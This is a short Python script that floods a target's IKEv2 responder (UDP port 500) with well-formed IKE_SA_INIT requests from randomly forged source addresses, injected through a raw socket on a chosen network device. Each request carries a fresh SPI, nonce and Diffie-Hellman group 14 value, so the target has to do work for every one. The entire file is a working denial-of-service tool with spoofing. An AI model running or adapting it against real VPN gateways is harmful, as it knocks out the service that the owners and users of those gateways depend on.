#!/usr/bin/env python3
"""flood.py DST DEVICE SEED COUNT - well-formed IKE_SA_INIT requests from forged sources, from a router in between.

Each has a source address, SPI, nonce and group 14 value of its own, and offers AES-GCM-256, HMAC-SHA-256 and group 14. Drawn from SEED."""
import random, socket, struct, sys

dst, device, seed, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
rng = random.Random(seed)


def octets(n):
    return rng.getrandbits(8 * n).to_bytes(n, "big")


def payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def transform(last, kind, number, bits=0):
    attribute = struct.pack("!HH", 0x800E, bits) if bits else b""
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attribute), kind, 0, number) + attribute


def request():
    transforms = transform(False, 1, 20, 256) + transform(False, 2, 5) + transform(True, 4, 14)
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    chain = payload(34, proposal) + payload(40, struct.pack("!HH", 14, 0) + b"\1" + octets(255)) + payload(0, octets(32))
    return b"\1" + octets(7) + bytes(8) + bytes([33, 0x20, 34, 0x08]) + struct.pack("!II", 0, 28 + len(chain)) + chain


sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode() + b"\0")
for i in range(count):
    data = request()
    udp = struct.pack("!HHHH", 500, 500, 8 + len(data), 0) + data
    source = bytes([11]) + octets(3)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), i & 0xFFFF, 0, 64, 17, 0, source, socket.inet_aton(dst))
    sock.sendto(head + udp, (dst, 0))
